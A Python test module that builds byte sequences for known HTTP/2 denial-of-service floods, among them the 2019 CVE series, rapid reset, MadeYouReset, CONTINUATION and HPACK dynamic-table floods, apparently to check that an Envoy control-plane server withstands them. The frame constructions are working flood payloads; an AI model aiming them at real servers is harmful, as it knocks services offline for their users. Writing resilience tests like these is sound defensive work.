"""Floods of HTTP/2 frames: CVE-2019-9511 to 9518, CONTINUATION, HPACK, rapid reset, MadeYouReset, and cheap frames."""

from __future__ import annotations

import itertools
import struct
from collections.abc import Iterator

from envoy.service.discovery.v3 import discovery_pb2

from controlplane.envoy_types import CLUSTER
from controlplane.http2.frames import (
    ACK,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    frame,
)
from tests.attacks.attack import Attack, again, data, each_stream, message, opened, request_headers

_BLOCK = request_headers()


def _on_open_stream(chunk: bytes) -> Iterator[bytes]:
    yield opened(1, _BLOCK)
    yield from again(chunk)


def _rapid_reset(n: int) -> bytes:
    return opened(n, _BLOCK) + frame(RST_STREAM, 0, n, bytes(4))


def _made_to_reset(n: int) -> bytes:
    return opened(n, _BLOCK) + frame(WINDOW_UPDATE, 0, n, bytes(4))


def _refused(n: int) -> bytes:
    return opened(n, b"\x82\x82")  # a repeated pseudo-header


def _literal(name: bytes, value: bytes, first: int) -> bytes:
    return bytes([first, len(name)]) + name + b"\x7f" + _varint(len(value) - 127) + value


def _varint(value: int) -> bytes:
    out = bytearray()
    while value > 127:
        out.append(value & 127 | 128)
        value >>= 7
    return bytes(out + bytes([value]))


# 3,900 bytes in the dynamic table, and then a reference of one byte, again and again.
_INDEXED = _BLOCK + _literal(b"a", b"b" * 3_900, 0x40) + b"\xbe" * 15


def _large_headers(n: int) -> bytes:
    return opened(n, _BLOCK + b"".join(_literal(b"x%d" % i, b"v" * 3_000, 0x00) for i in range(5)))


def _empty_names(n: int) -> bytes:
    return opened(n, _BLOCK + b"\x00\x00\x00" * 5_000)  # CVE-2019-9516


def _continuation(_: int) -> Iterator[bytes]:
    yield frame(HEADERS, 0, 1, _BLOCK)
    yield from again(frame(CONTINUATION, 0, 1, b""))


def _settings(size: int) -> bytes:
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HL", 0x100 + i, i) for i in range(size)))


def _window_settings(_: int) -> Iterator[bytes]:
    """Open 1,000 streams, and change the window of all of them with each frame of 6 bytes."""
    yield b"".join(opened(n, _BLOCK) for n in range(1, 2_001, 2))
    one, other = (frame(SETTINGS, 0, 0, struct.pack(">HL", 4, value)) for value in (1_000, 2_000))
    yield from again(one + other)


def _windows_of_one_byte(_: int) -> Iterator[bytes]:
    """Ask for everything, and take it a byte at a time (CVE-2019-9511)."""
    request = discovery_pb2.DeltaDiscoveryRequest(type_url=CLUSTER)
    request.node.id = "dribble"
    yield opened(1, _BLOCK) + data(1, message(request.SerializeToString()))
    yield from again(frame(WINDOW_UPDATE, 0, 1, (1).to_bytes(4, "big")))


def _empty_headers(n: int) -> bytes:
    return frame(HEADERS, END_HEADERS | END_STREAM, n, b"")


FRAMES = (
    Attack("frames of an unknown type", lambda _: again(frame(0xEE, 0, 0))),
    Attack("PRIORITY", lambda _: again(frame(PRIORITY, 0, 1, bytes(5)))),
    Attack("PRIORITY of many streams (9513)", lambda _: each_stream(lambda n: frame(PRIORITY, 0, n % 2**30, bytes(5)), 5_000)),
    Attack("WINDOW_UPDATE", lambda _: again(frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\x01"))),
    Attack("empty DATA (9518)", lambda _: _on_open_stream(frame(DATA, 0, 1))),
    Attack("DATA of one byte", lambda _: _on_open_stream(frame(DATA, 0, 1, b"\0"))),
    Attack("PING (9512)", lambda _: again(frame(PING, 0, 0, bytes(8)))),
    Attack("PING, never read", lambda _: again(frame(PING, 0, 0, bytes(8))), reads=False),
    Attack("RST_STREAM of refused streams (9514)", lambda _: each_stream(_refused)),
    Attack("empty SETTINGS (9515)", lambda _: again(frame(SETTINGS, 0, 0))),
    Attack("acknowledged SETTINGS", lambda _: again(frame(SETTINGS, ACK, 0))),
    Attack("SETTINGS of 2,730 entries", lambda _: again(_settings(2_730))),
    Attack("SETTINGS that change 1,000 windows", _window_settings),
    Attack("empty names of header fields (9516)", lambda _: each_stream(_empty_names, 20)),
    Attack("large headers", lambda _: each_stream(_large_headers, 20)),
    Attack("dynamic table", lambda _: each_stream(lambda n: opened(n, _INDEXED), 60)),
    Attack("CONTINUATION", _continuation),
    Attack("empty HEADERS", lambda _: each_stream(_empty_headers)),
    Attack("rapid reset (CVE-2023-44487)", lambda _: each_stream(_rapid_reset)),
    Attack("MadeYouReset (CVE-2025-8671)", lambda _: each_stream(_made_to_reset)),
    Attack("windows of one byte (9511)", _windows_of_one_byte, settings=((4, 1),)),
    Attack("large windows, never read (9517)", lambda _: each_stream(_rapid_reset), settings=((4, 2**31 - 1),), reads=False),
    Attack("bytes that are not HTTP/2", lambda _: itertools.repeat(bytes(range(256)) * 100)),
)
